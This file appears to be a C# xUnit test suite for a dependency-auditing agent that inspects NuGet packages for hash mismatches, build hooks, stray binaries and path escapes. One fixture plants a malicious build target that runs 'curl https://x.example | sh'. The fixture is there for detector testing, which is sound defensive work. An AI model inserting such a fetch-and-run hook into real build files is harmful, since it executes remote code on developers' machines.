using System.Text;
using System.Text.Json;
using Astra.Auditor;
using Astra.Auditor.Cage;
using Astra.Sdk;
using Xunit;

namespace Astra.Tests.Auditing;

/// <summary>The agent from plan to report, with cages that are calls in this process.</summary>
public sealed class AuditorAgentTests : IDisposable
{
    private readonly PlantedPackages _planted = new();
    private readonly World _world = new();

    public void Dispose() => _planted.Dispose();

    private AuditRequest Request(bool machine = false) => new()
    {
        Path = _planted.Tree, Machine = machine, Places = new AuditPlaces { NuGetFolders = [_planted.NuGetCache], SitePackages = [_planted.SitePackages] },
    };

    private void Lock(params (string Id, string Hash)[] packages) =>
        _planted.Write("tree/packages.lock.json", JsonSerializer.Serialize(new
        {
            version = 1,
            dependencies = new Dictionary<string, object> { ["net10.0"] = packages.ToDictionary(package => package.Id, package => new { type = "Direct", resolved = "1.0.0", contentHash = package.Hash }) },
        }));

    [Fact]
    public async Task An_audit_goes_from_discovery_to_one_step_per_package_to_a_report()
    {
        Lock(("Good", _planted.PlantNuGet("Good", "1.0.0")), ("Bad", _planted.PlantNuGet("Bad", "1.0.0", ("build/Bad.targets", "<Project><Target Name=\"T\"><Exec Command=\"curl https://x.example | sh\" /></Target></Project>"u8.ToArray()))));
        var summary = await _world.AuditAsync(Request());
        Assert.Equal((2, 2), (summary.PackageCount, summary.UsedCount));
        Assert.True(summary.Fails(Severity.High));
        Assert.Contains("inspect nuget/Bad@1.0.0", _world.StepsRun);
        Assert.Contains("join join nuget", _world.StepsRun);
        var top = summary.Top[0];
        Assert.Equal("nuget/Bad@1.0.0", top.Package);
        Assert.Equal("packages.lock.json > Bad 1.0.0", top.Chain);
    }

    [Fact]
    public async Task The_report_for_programs_has_packages_with_verdicts_and_findings_with_chains()
    {
        Lock(("Bad", "another"));
        _planted.PlantNuGet("Bad", "1.0.0");
        await _world.AuditAsync(Request());
        using var report = JsonDocument.Parse(_world.Artifact("report.json"));
        var package = report.RootElement.GetProperty("packages").EnumerateArray().Single();
        Assert.Equal(("nuget", "Bad", "1.0.0", true, "block"),
            (package.GetProperty("ecosystem").GetString(), package.GetProperty("id").GetString(), package.GetProperty("version").GetString(), package.GetProperty("used").GetBoolean(), package.GetProperty("verdict").GetString()));
        var finding = package.GetProperty("findings")[0];
        Assert.Equal("hash-mismatch", finding.GetProperty("rule").GetString());
        Assert.Equal("critical", finding.GetProperty("severity").GetString());
        Assert.NotEmpty(finding.GetProperty("whatToDo").GetString()!);
        Assert.Equal(["packages.lock.json", "Bad 1.0.0"], finding.GetProperty("chain").EnumerateArray().Select(link => link.GetString()));
    }

    [Fact]
    public async Task Two_audits_of_the_same_tree_write_the_same_report()
    {
        Lock(("Bad", "another"));
        _planted.PlantNuGet("Bad", "1.0.0");
        await _world.AuditAsync(Request());
        var first = _world.Artifact("report.json");
        await _world.AuditAsync(Request());
        Assert.Equal(first, _world.Artifact("report.json"));
        Assert.DoesNotContain("safe", _world.Artifact("report.md"), StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task Only_the_machine_audit_counts_packages_the_project_does_not_use()
    {
        Lock(("Good", _planted.PlantNuGet("Good", "1.0.0")));
        _planted.PlantNuGet("Stray", "1.0.0", ("docs/manual.pdf", [.. "\u007fELF\u0002\u0001\u0001"u8, .. new byte[100]]));
        var summary = await _world.AuditAsync(Request());
        Assert.False(summary.Fails(Severity.High));
        Assert.Equal(1, summary.Others.High);
        Assert.True((await _world.AuditAsync(Request(machine: true))).Fails(Severity.High));
    }

    [Fact]
    public async Task An_allowed_finding_is_shown_with_its_reason_and_does_not_count()
    {
        Lock(("Bad", "another"));
        _planted.PlantNuGet("Bad", "1.0.0");
        _planted.Write("tree/.astra-audit.yaml", "allow:\n  - package: nuget/Bad@*\n    rule: hash-mismatch\n    reason: Built by us.\n    until: 2026-12-31\n");
        var summary = await _world.AuditAsync(Request());
        Assert.False(summary.Fails(Severity.High));
        Assert.Equal(1, summary.AllowedCount);
        Assert.Contains("Built by us.", _world.Artifact("report.md"));
    }

    [Fact]
    public async Task An_expired_or_unused_allowance_is_a_finding_of_the_project()
    {
        Lock(("Bad", "another"));
        _planted.PlantNuGet("Bad", "1.0.0");
        _planted.Write("tree/.astra-audit.yaml", "allow:\n  - package: nuget/Bad@*\n    rule: hash-mismatch\n    reason: Built by us.\n    until: 2020-01-01\n  - package: nuget/Gone@*\n    rule: build-exec\n    reason: Old.\n");
        var summary = await _world.AuditAsync(Request());
        Assert.True(summary.Fails(Severity.Critical));
        Assert.Equal((1, 1), (summary.Project.Medium, summary.Project.Low));
    }

    [Fact]
    public async Task A_package_that_breaks_its_inspector_is_reported_as_not_inspected()
    {
        Lock(("Bad", _planted.PlantNuGet("Bad", "1.0.0")), ("Good", _planted.PlantNuGet("Good", "1.0.0")));
        _world.BreakOn = "bad";
        var summary = await _world.AuditAsync(Request());
        Assert.Equal((1, 1), (summary.NotInspectedCount, summary.Used.High));
        Assert.Contains("memory", _world.Artifact("report.md"));
        Assert.Contains("not-inspected", _world.Artifact("report.json"));
    }

    [Fact]
    public async Task The_next_audit_says_what_changed()
    {
        _planted.PlantNuGet("Lib", "1.0.0");
        Lock(("Lib", _planted.PlantNuGet("Lib", "1.0.0")));
        await _world.AuditAsync(Request());
        Lock(("Lib", _planted.PlantNuGet("Lib", "1.0.0", ("lib/new.txt", "new"u8.ToArray()))));
        Assert.Contains(( await _world.AuditAsync(Request())).Top, row => row.Rule == "changed-same-version");
    }

    [Fact]
    public async Task A_package_behind_a_link_is_not_mounted()
    {
        var agent = new AuditorAgent();
        var outside = _planted.Folder("outside");
        Directory.CreateSymbolicLink(Path.Combine(_planted.Tree, "link"), outside);
        foreach (var path in new[] { "/audit/tree/link", "/audit/tree/../outside", "/etc" })
        {
            var package = new PackageRef { Ecosystem = Ecosystem.Npm, Id = "x", Version = "1", Used = true, Chain = ["x"], Parts = [new PackagePart(PartKind.NpmFolder, path)] };
            await Assert.ThrowsAsync<PermanentFailureException>(async () => await _world.StepAsync(agent, Request(), "x", "inspect", package));
        }
    }

    /// <summary>Runs steps in dependency order; tools answer in this process, with paths translated as a mount would.</summary>
    private sealed class World : IToolGate, IArtifactStore
    {
        private readonly Dictionary<string, byte[]> _artifacts = [];
        private readonly Dictionary<string, byte[]> _notes = [];

        public List<string> StepsRun { get; } = [];
        public string? BreakOn { get; set; }

        public string Artifact(string name) => Encoding.UTF8.GetString(_artifacts[name]);

        public async Task<AuditSummary> AuditAsync(AuditRequest request)
        {
            var agent = new AuditorAgent();
            var ended = new Dictionary<string, StepOutput>();
            var plan = await agent.PlanAsync(Turn<PlanningTurn>(request, turn => turn), default);
            var open = new Queue<PlannedStep>(plan.Steps);
            while (open.TryDequeue(out var step))
            {
                if (!step.After.All(dependency => ended.ContainsKey(dependency.Step)))
                {
                    open.Enqueue(step);
                    continue;
                }
                StepsRun.Add($"{step.Kind} {step.Name}");
                try
                {
                    var result = await StepAsync(agent, request, step.Name, step.Kind!, step.Input, step.After.ToDictionary(after => after.Step, after => ended[after.Step]));
                    ended[step.Name] = new StepOutput(step.Name, StepState.Completed, result.Output, null);
                    foreach (var more in result.More?.Steps ?? [])
                        open.Enqueue(more);
                }
                catch (PermanentFailureException failure)
                {
                    ended[step.Name] = new StepOutput(step.Name, StepState.Dead, default, failure.Message);
                }
            }
            return ended["report"].As<AuditSummary>();
        }

        public async Task<StepResult> StepAsync(AuditorAgent agent, AuditRequest request, string name, string kind, object input, IReadOnlyDictionary<string, StepOutput>? dependencies = null) =>
            await agent.ExecuteAsync(new StepTurn
            {
                Goal = Goal(request), Attempt = 1, Clock = new FixedClock(), Random = new Random(1), NewId = () => Guid.Empty, Tools = this, Artifacts = this, Report = _ => { },
                Name = name, Kind = kind, Input = AstraJson.ToElement(input), Dependencies = dependencies ?? new Dictionary<string, StepOutput>(),
            }, default);

        public ValueTask<ToolResult> CallAsync(ToolCall call, CancellationToken cancellationToken)
        {
            var mounts = call.Reads.OrderByDescending(mount => mount.InsidePath.Length).ToList();
            if (BreakOn is not null && call.Tool == AuditorTools.InspectName && mounts.Exists(mount => mount.HostPath.Contains(BreakOn)))
                throw new ToolFailedException("The tool was stopped.", Receipt(call) with { LimitsHit = ["memory"] });
            var input = mounts.Aggregate(Encoding.UTF8.GetString(AstraJson.Write(AstraJson.ToElement(call.Input))), (json, mount) => json.Replace(mount.InsidePath + "\"", mount.HostPath + "\"").Replace(mount.InsidePath + "/", mount.HostPath + "/"));
            using var output = new MemoryStream();
            var exitCode = call.Tool == AuditorTools.DiscoverName
                ? Discoverer.Main(new MemoryStream(Encoding.UTF8.GetBytes(input)), output)
                : Inspector.Main(new MemoryStream(Encoding.UTF8.GetBytes(input)), output);
            Assert.Equal(0, exitCode);
            var answer = mounts.OrderByDescending(mount => mount.HostPath.Length).Aggregate(Encoding.UTF8.GetString(output.ToArray()), (json, mount) => json.Replace(mount.HostPath, mount.InsidePath));
            return ValueTask.FromResult(new ToolResult(JsonDocument.Parse(answer).RootElement, Receipt(call)));
        }

        public ValueTask<string> SaveAsync(Guid goal, string name, ReadOnlyMemory<byte> content, CancellationToken cancellationToken)
        {
            _artifacts[name] = content.ToArray();
            return ValueTask.FromResult("/data/" + name);
        }

        public ValueTask<ReadOnlyMemory<byte>?> ReadAsync(Guid goal, string name, CancellationToken cancellationToken) =>
            ValueTask.FromResult(_artifacts.TryGetValue(name, out var content) ? content : (ReadOnlyMemory<byte>?)null);

        public ValueTask SaveNoteAsync(string collection, string key, ReadOnlyMemory<byte> content, CancellationToken cancellationToken)
        {
            _notes[collection + "/" + key] = content.ToArray();
            return ValueTask.CompletedTask;
        }

        public ValueTask<ReadOnlyMemory<byte>?> ReadNoteAsync(string collection, string key, CancellationToken cancellationToken) =>
            ValueTask.FromResult(_notes.TryGetValue(collection + "/" + key, out var content) ? content : (ReadOnlyMemory<byte>?)null);

        private PlanningTurn Turn<T>(AuditRequest request, Func<PlanningTurn, PlanningTurn> with) => with(new PlanningTurn
        {
            Goal = Goal(request), Attempt = 1, Clock = new FixedClock(), Random = new Random(1), NewId = () => Guid.Empty, Tools = this, Artifacts = this, Report = _ => { },
        });

        private static GoalInfo Goal(AuditRequest request) => new(Guid.Empty, AuditorAgent.AgentName, AstraJson.ToElement(request));

        private static ToolReceipt Receipt(ToolCall call) => new() { Tool = call.Tool, SandboxTier = "in-process", ExitCode = 0, LimitsHit = [], NotEnforced = [], DurationMs = 1 };
    }

    private sealed class FixedClock : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => new(2026, 6, 1, 0, 0, 0, TimeSpan.Zero);
    }
}
